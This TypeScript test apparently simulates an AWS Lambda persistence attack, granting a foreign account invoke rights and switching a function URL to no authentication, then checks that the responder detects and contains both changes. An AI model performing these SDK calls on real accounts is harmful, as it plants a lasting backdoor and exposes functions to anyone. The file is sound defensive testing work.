import {
  AddPermissionCommand,
  InvokeCommand,
  LambdaClient,
  UpdateFunctionUrlConfigCommand,
} from '@aws-sdk/client-lambda';
import { expect } from 'vitest';
import { callFunctionUrl } from '../../../shared/sandbox/aws/lambda-urls.ts';
import type { Attack } from '../../support/attack.ts';
import { holding } from '../../support/attacker.ts';
import { production } from '../../support/company.ts';
import { readEvent, withMembers } from '../../support/events.ts';

const arn = `arn:aws:lambda:eu-west-1:${production}:function:resize-images`;
const url = 'https://nw4k7qinvoices0000000000000000ab.lambda-url.eu-west-1.on.aws/';

/** A way back in that outlives the credentials it was made with. */
export const attack: Attack = {
  title: 'A function is given to the attacker’s own account, and another one a URL that asks nobody who he is',
  known: 'Stratus Red Team aws.persistence.lambda-backdoor-function',
  answer: 'A person agrees; the one statement is taken out, and the URL asks for a signature',
  clouds: ['aws'],
  async play({ sandbox, works, fails, arrives, agreed }) {
    const inside = new LambdaClient(holding(sandbox, 'ASIASAMLADMIN0000001'));
    const outside = new LambdaClient(holding(sandbox, 'AKIAMALLORY000000001'));
    const statement = { StatementId: 'backdoor', Action: 'lambda:InvokeFunction', Principal: '666677778888' };
    await inside.send(new AddPermissionCommand({ FunctionName: 'resize-images', ...statement }));
    await inside.send(new UpdateFunctionUrlConfigCommand({ FunctionName: 'invoices', AuthType: 'NONE' }));
    await works('calls the function from an account of its own', () =>
      outside.send(new InvokeCommand({ FunctionName: arn })),
    );
    await works('calls the function at its URL', () => callFunctionUrl(sandbox, url) === 200);
    const permission = readEvent('cloudtrail/function-permission');
    const [run] = await arrives(
      withMembers(permission, {
        'detail.requestParameters.functionName': arn,
        'detail.requestParameters.statementId': 'backdoor',
        'detail.requestParameters.principal': '666677778888',
      }),
    );
    expect(run?.status).toBe('waiting');
    await arrives(
      withMembers(permission, {
        'detail.eventID': 'c1a7d0e2-5b64-4f38-9d01-000000000010',
        'detail.eventName': 'UpdateFunctionUrlConfig',
        'detail.requestParameters': { functionName: 'invoices', authType: 'NONE' },
      }),
    );
    const ended = await agreed();
    expect(ended.map(({ result }) => result?.outcome)).toEqual(['contained', 'contained']);
    await fails('calls the function from an account of its own');
    await fails('calls the function at its URL');
  },
};
